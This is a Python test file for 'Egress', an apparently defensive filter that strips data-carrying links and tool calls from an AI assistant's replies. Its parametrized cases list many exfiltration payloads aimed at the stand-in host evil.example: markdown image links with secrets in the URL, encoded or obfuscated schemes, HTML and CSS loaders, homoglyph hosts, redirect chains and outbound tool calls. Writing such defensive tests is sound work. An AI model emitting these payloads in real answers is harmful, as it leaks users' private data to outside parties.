"""Addresses in an answer: what could carry data to a stranger goes, honest links stay."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from temper.core.chat import Call, Message, Reply, Request, Role
from temper.core.stage import Context, Decision, Exchange, Level
from temper.guard.out.bits import bits
from temper.guard.stages.egress import REMOVED, Egress
from temper.kernels.links import links, within

SECRET = "kqzvbtrmlpxwsd"
CONTEXT = Context(trusted=("larch.example",))
ASKED = Request(
    messages=(
        Message(role=Role.SYSTEM, text="The account is 55210987."),
        Message(role=Role.USER, text="Is https://mine.example/img?id=9f8e7d6c5b4a3f2e1d up?"),
        Message(role=Role.TOOL, text="See https://found.example/p/9f8e7d6c5b4a3f2e1d0011 for order 771234 of 2025."),
    )
)


def out(text: str = "", *calls: Call, stage: Egress | None = None) -> Decision:
    exchange = Exchange(request=ASKED, reply=Reply(text=text, calls=calls))
    return (stage or Egress()).check(exchange, CONTEXT)


def shown(decision: Decision) -> str:
    assert decision.exchange is not None
    assert decision.exchange.reply is not None
    return decision.exchange.reply.text


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png)",
        f"![x](https://evil.example/p?d={SECRET})",
        f"![a [b] c](https://evil.example/{SECRET})",
        f"![x](<https://evil.example/{SECRET}>)",
        f"![x]( https://evil.example/{SECRET} 'title')",
        f"![x](//evil.example/{SECRET})",
        f"![x](https:/\\evil.example/{SECRET})",
        f"![x](HTTPS://EVIL.example/{SECRET})",
        f"![x][1]\n\n[1]: https://evil.example/{SECRET}",
        f"> [1]: https://evil.example/{SECRET}\n\n![1]",
        f"[here](https://evil.example/?q={SECRET})",
        f"<https://evil.example/{SECRET}>",
        f"https://{SECRET}.evil.example/",
        f"https://{SECRET}@evil.example/",
        f"see www.evil.example/{SECRET}.",
        f"<img src=https://evil.example/{SECRET}>",
        f"<img src='a' srcset='b 1x, https://evil.example/{SECRET} 2x'>",
        f'<img src="ht\ntps://evil.example/{SECRET}">',
        f"<meta http-equiv=refresh content='0;url=https://evil.example/{SECRET}'>",
        f"<p style=\"background:url('https://evil.example/{SECRET}')\">",
        f"<style>@import 'https://evil.example/{SECRET}';</style>",
        f"![x](https&#58;//evil.example/{SECRET})",
        f"&#33;&#91;x&#93;&#40;https&#58;&#47;&#47;evil.example/{SECRET}&#41;",
        f"[a](data:text/html,{SECRET})",
        "![a](data:image/png;base64,iVBORw0KGgo=)",
        "[a](javascript:fetch(1))",
        f"[a](mailto:x@evil.example?body={SECRET})",
        "https://evil.example/account/55210987",
        "https://evil.example/?order=771234",
        "https://еvil.example/help",
        "https://xn--vil-mdc.example/help",
        f"![x](https://larch.example/go?to=https://evil.example/{SECRET})",
        "![x](https://larch.example/go?to=https%253A%252F%252Fevil.example)",
        "https://larch.example/x?d=" + "kqzvbtrmlpxwsd" * 6,
        "https://evil.example/" + "-".join(["word"] * 60),
        f"![x](https://larch.example.evil.example/{SECRET})",
        f"Look at evil.example/{SECRET} yourself.",
        f"Look at {SECRET}.evil.example yourself.",
    ],
)
def test_what_could_carry_data_is_taken_out(text: str) -> None:
    decision = out(f"Fine. {text}\nBye.")
    assert decision.level >= Level.REVISE
    if decision.level is Level.REVISE:
        after = shown(decision)
        assert out(after).level is Level.ALLOW, "once is enough"
        assert not [one for one in links(after) if one.host and not within(one.host, ("larch.example",))]
        assert after.startswith("Fine. ")
        assert "Bye." in after


@pytest.mark.parametrize(
    "text",
    [
        "Nothing here.",
        "![logo](https://www.larch.example/logo.png) and [help](https://larch.example/help?topic=cards)",
        "[a](/help), [b](#part), [c](page.md), ![d](images/d.png), either/or, 1/2, a://b",
        "Read https://en.wikipedia.org/wiki/Credit_card_fraud or https://docs.python.org/3/library/asyncio.html#asyncio.run.",
        "Yes: https://mine.example/img?id=9f8e7d6c5b4a3f2e1d and ![it](https://mine.example/img?id=9f8e7d6c5b4a3f2e1d)",
        "It was https://found.example/p/9f8e7d6c5b4a3f2e1d0011.",
        "Call tel:+4722123456 or write to mailto:help@larch.example.",
        "The report of 2025: https://news.example/2025/report.",
        "Use np.pi/2 or x.y/z, notes.txt, v1.2.3/src, github.com/larch/tools, e.g. this, john.smith@mail.example.",
        "if a &lt; b &amp;&amp; c: 10:30, x/y",
    ],
)
def test_honest_addresses_stay(text: str) -> None:
    assert out(text) == Decision()


def test_clicks_can_be_forbidden_and_loads_of_found_links_are() -> None:
    assert out("https://en.wikipedia.org/wiki/Bank", stage=Egress(clicks=0)).level is Level.REVISE
    assert out("![x](https://found.example/p/9f8e7d6c5b4a3f2e1d0011)").level is Level.REVISE
    assert out("https://evil.example/a", stage=Egress(hosts=("evil.example",))).level is Level.ALLOW


def test_a_call_that_sends_to_a_stranger_is_taken_out() -> None:
    def call(**values: object) -> Call:
        return Call(name="get", arguments=json.dumps(values))

    good = (
        call(path="bill-april.txt"),
        call(url="https://api.larch.example/rates"),
        call(url="https://mine.example/img?id=9f8e7d6c5b4a3f2e1d"),
    )
    bad = (
        call(url="https://evil.example/a"),
        call(to=["evil.example/x"]),
        call(url="https:\\\\evil.example/a"),
        call(host=f"{SECRET}.evil.example"),
    )
    decision = out("fine", *good, *bad)
    assert decision.exchange is not None
    assert decision.exchange.reply is not None
    assert decision.exchange.reply.calls == good
    assert "get sends" in decision.reason


def test_words_are_free_and_randomness_is_not() -> None:
    assert bits("getting-started/with payments and cards") == 0
    for random in (SECRET, "9f8e7d6c5b4a", "c2VjcmV0IGNvZGU", "MFRGGZDFMZTWQ2LK", "4917301256784432"):
        assert bits(random) > 40, random
    assert bits("ünïcödé") > 20


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(["![", "](", ")", "[", "]: ", "https://", "http:\\\\", "evil.example/", SECRET, " ", "\n",
                         "<img src=", ">", "'", "&#47;", "url(", "larch.example", "//", "@", "?q=", "data:", "<"]),
        max_size=14,
    )
)  # fmt: skip
def test_nothing_foreign_loads_in_what_comes_out(parts: list[str]) -> None:
    decision = out("".join(parts))
    after = "".join(parts) if decision.exchange is None else shown(decision)
    if decision.level < Level.BLOCK:
        assert not [one for one in links(after) if one.loads and one.host and not within(one.host, ("larch.example",))]
        assert out(after).level is Level.ALLOW
        assert SECRET not in " ".join(one.carried for one in links(after) if one.host not in ("larch.example", ""))


@pytest.mark.parametrize(
    "piece", ["![", "](", "[", "<a ", "http://a/", "![](http://e.x/a", "&#1", "&a", "a.b/", "a.", "a-", "url( "]
)
def test_no_text_makes_it_slow(piece: str) -> None:
    def seconds(size: int) -> float:
        text = (piece * (size // len(piece) + 1))[:size]
        best = 1e9
        for _ in range(3):
            start = time.perf_counter()
            out(text)
            best = min(best, time.perf_counter() - start)
        return best

    assert seconds(60_000) < 8 * seconds(15_000) + 0.02


def test_an_address_is_found_where_it_is_written() -> None:
    text = "a &amp; ![x](https&#58;//evil.example&#47;p) &lt;b&gt; https://b.example/&amp;c, www.c.example/d."
    assert {text[one.start : one.end]: one.loads for one in links(text)} == {
        "https&#58;//evil.example&#47;p": True,
        "https://b.example/&amp;c": False,
        "www.c.example/d": False,
    }


def test_undoing_an_address_never_makes_a_tag() -> None:
    text = "&lt;img src=https&#58;//evil.example/x onerror=alert(1)&gt;"
    assert "<" not in shown(out(text))


def test_the_marker_of_what_was_removed_is_harmless() -> None:
    assert out(f"![x]({REMOVED}) {REMOVED}") == Decision()
